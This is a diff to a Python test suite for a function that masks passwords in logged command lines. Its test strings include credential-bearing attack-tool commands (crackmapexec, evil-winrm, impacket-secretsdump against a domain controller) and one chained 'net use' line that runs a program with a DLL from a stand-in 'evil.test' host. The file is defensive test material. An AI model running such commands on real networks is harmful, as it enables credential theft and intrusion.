@@ -48,8 +48,19 @@ COMMANDS = [
     'mysql -u root -e "select a from b" -pWinter7',
     "smbclient //fs01/c$ --user=x%Winter7",
     "PGPASSWORD: Winter7",
+    r"net use \\fs01\c$ Winter7",
+    r'net use Z: "\\fs01\my share" "Winter7" /persistent:no',
+    "crackmapexec smb 192.0.2.0/24 -u x -p 'Winter7' --shares",
+    "nxc smb fs01 -u users.txt -p Winter7",
+    "evil-winrm -i fs01 -u x -p Winter7",
+    "xfreerdp /v:fs01 /u:x /p:Winter7",
 ]
-LOGINS = ["curl -u jdoe:Winter7 ftp://fs01/", "curl -sk --user='jdoe:Winter7' ftp://fs01/"]
+LOGINS = [
+    "curl -u jdoe:Winter7 ftp://fs01/",
+    "curl -sk --user='jdoe:Winter7' ftp://fs01/",
+    "psexec.py CORP/jdoe:Winter7@192.0.2.7 whoami",
+    "impacket-secretsdump -dc-ip 192.0.2.7 -just-dc 'CORP/jdoe:Winter7@fs01'",
+]
 HARMLESS = [
     r"net use",
     r"net use \\fs01\share /delete",
@@ -110,6 +121,18 @@ HARMLESS = [
     "psexec -c a.exe -u http://192.0.2.7 -p 443",
     "curl -u anonymous:a@b.test ftp://fs01/",
     "curl -u user:pass ftp://fs01/",
+    *("curl -u evil.com:8080", "curl -U 192.0.2.7:3128 -x a"),
+    *(r"net use \\fs01\c$ T1021.002", r"net use \\fs01\c$ on fs02", r"net use \\fs01\c$, Event7"),
+    *(
+        r"net use \\fs01\c$ psexec64.exe",
+        r"net use \\fs01\c$ [12]",
+        r"net use \\fs01\c$ CVE-2021-1",
+    ),
+    *(r"net use W: \\evil.test@ssl\u && C:\a.exe W:\v.dll", r"net use \\fs01\share password"),
+    *("psexec.py domain/user:password@host", "psexec.py %s:%s@%s", "psexec.py {u}:{p}@{h}"),
+    *("psexec.py CORP/x@192.0.2.7 -hashes :aa", "services.py and a few others: a:b@c"),
+    *("nxc smb fs01 -u users.txt -p rockyou.txt", "crackmapexec smb fs01 -u x -p"),
+    "xfreerdp /v:fs01 /u:x /p",
 ]
 """Commands without a password, and with those of attackers' own programs."""
 
@@ -167,6 +190,7 @@ class TestTexts:
         "piece",
         [
             *("net use ", r"net use \\a\b ", "/user:x ", "mysql -p", "sshpass -p ", "curl -u a:"),
+            *("-u a -p ", "psexec.py -a ", "a:b@"),
             *('psexec -u "', "schtasks /rp ", "wmic /user:x /a:b ", "sc ", "PGPASSWORD=", "\\"),
         ],
     )
@@ -179,7 +203,7 @@ class TestTexts:
         masked = text.format(MASK).replace("jdoe:", "")
         assert sanitise_description(RULE, text.format(SECRET)) == masked
 
-    @pytest.mark.parametrize("program", ["net use ", "curl ", "mysql ", "psexec ", "wmic "])
+    @pytest.mark.parametrize("program", ["net use ", "curl ", "mysql ", "psexec ", "psexec.py "])
     @pytest.mark.parametrize("end", ["\t", " ", "-p", "/u:", '"a" ', "/user:x/user:"])
     def test_searching_one_hostile_command_is_quick(self, program: str, end: str) -> None:
         backslashes = "\\" * 300
